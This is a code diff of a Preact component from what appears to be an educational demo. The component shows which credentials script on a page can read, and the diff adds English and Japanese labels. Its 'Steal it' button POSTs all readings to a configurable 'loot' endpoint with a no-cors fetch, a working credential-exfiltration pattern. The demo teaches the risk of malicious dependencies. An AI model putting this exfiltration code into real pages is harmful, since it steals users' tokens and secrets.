@@ -1,47 +1,49 @@
-import type { ReadonlySignal } from '@preact/signals';
-import { useEffect, useState } from 'preact/hooks';
+import { say } from '../../look/say.ts';
 import { Step } from '../../look/step.tsx';
-import { type Exhibit, type ExhibitKind, findExhibits } from './exhibit.ts';
-import { type Reading, readEverything } from './readings.ts';
-
-/** How often the panel looks again, in milliseconds. */
-const INTERVAL = 300;
+import type { Exhibit, ExhibitKind } from './exhibit.ts';
+import type { Reading } from './readings.ts';
 
 const KINDS: Readonly<Record<ExhibitKind, string>> = {
-  bearer: 'works anywhere',
-  opaque: 'opaque',
-  bound: 'needs a key',
-  handle: 'handle',
+  bearer: say('works anywhere', 'どこでも使える'),
+  opaque: say('opaque', '中身は不明'),
+  bound: say('needs a key', '鍵が必要'),
+  handle: say('handle', 'ハンドル'),
 };
 
 interface GlassProps {
-  readonly overheard: ReadonlySignal<readonly string[]>;
+  readonly readings: readonly Reading[];
+  /** The credentials among them. */
+  readonly exhibits: readonly Exhibit[];
+  /** The number on the button. */
+  readonly step: number;
+  readonly maySteal: boolean;
   /** Where stolen strings go. */
   readonly loot: string;
-  readonly onSteal: () => void;
 }
 
 /** What script in this page can read, live, and the button that takes all of it away. */
-export function Glass({ overheard, loot, onSteal }: GlassProps) {
-  const readings = useReadings(overheard);
-  const exhibits = findExhibits(readings);
+export function Glass({ readings, exhibits, step, maySteal, loot }: GlassProps) {
   const rest = readings.filter(({ value }) => !exhibits.some((exhibit) => value.includes(exhibit.value)));
 
-  const steal = async () => {
-    await fetch(loot, { method: 'POST', mode: 'no-cors', body: JSON.stringify(readings) });
-    onSteal();
-  };
+  const steal = () => fetch(loot, { method: 'POST', mode: 'no-cors', body: JSON.stringify(readings) });
 
   return (
     <section class="glass" aria-labelledby="glass-title">
       <header class="panel-head">
-        <h2 id="glass-title">What script in this page can read</h2>
-        <p>One bad dependency is enough to be that script.</p>
+        <h2 id="glass-title">{say('What script in this page can read', 'このページのスクリプトが読めるもの')}</h2>
+        <p>
+          {say(
+            'One bad dependency is enough to be that script.',
+            '悪意ある依存パッケージが一つあれば、それがそのスクリプトです。',
+          )}
+        </p>
       </header>
       {exhibits.length === 0 ? (
-        <p class="glass-none">No credential. Sign in to the notebook.</p>
+        <p class="glass-none">
+          {say('No credential. Sign in to the notebook.', '認証情報はありません。ノートにサインインしてください。')}
+        </p>
       ) : (
-        <ul class="exhibits" aria-label="Readable credentials">
+        <ul class="exhibits" aria-label={say('Readable credentials', '読める認証情報')}>
           {exhibits.map((exhibit) => (
             <ExhibitCard key={exhibit.value} exhibit={exhibit} />
           ))}
@@ -49,9 +51,9 @@ export function Glass({ overheard, loot, onSteal }: GlassProps) {
       )}
       {rest.length > 0 && <OtherReadings readings={rest} />}
       <p class="glass-action">
-        <button type="button" class="primary steal" disabled={exhibits.length === 0} onClick={steal}>
-          <Step number={2} />
-          Steal it
+        <button type="button" class="primary steal" disabled={!maySteal} onClick={steal}>
+          <Step number={step} />
+          {say('Steal it', '盗む')}
         </button>
       </p>
     </section>
@@ -76,9 +78,12 @@ function OtherReadings({ readings }: { readings: readonly Reading[] }) {
   return (
     <details class="others">
       <summary>
-        {readings.length === 1
-          ? 'And one other value, no credential'
-          : `And ${readings.length} other values, no credentials`}
+        {say(
+          readings.length === 1
+            ? 'And one other value, no credential'
+            : `And ${readings.length} other values, no credentials`,
+          `ほかに認証情報でない値 ${readings.length} 件`,
+        )}
       </summary>
       <dl>
         {readings.map(({ place, name, value }) => (
@@ -94,18 +99,4 @@ function OtherReadings({ readings }: { readings: readonly Reading[] }) {
       </dl>
     </details>
   );
-}
-
-/** Storage does not tell the page that wrote to it, so the panel looks. */
-function useReadings(overheard: ReadonlySignal<readonly string[]>): readonly Reading[] {
-  const [readings, setReadings] = useState(() => readEverything(overheard.value));
-  useEffect(() => {
-    const look = () => {
-      const current = readEverything(overheard.value);
-      setReadings((previous) => (JSON.stringify(previous) === JSON.stringify(current) ? previous : current));
-    };
-    const timer = setInterval(look, INTERVAL);
-    return () => clearInterval(timer);
-  }, [overheard]);
-  return readings;
 }
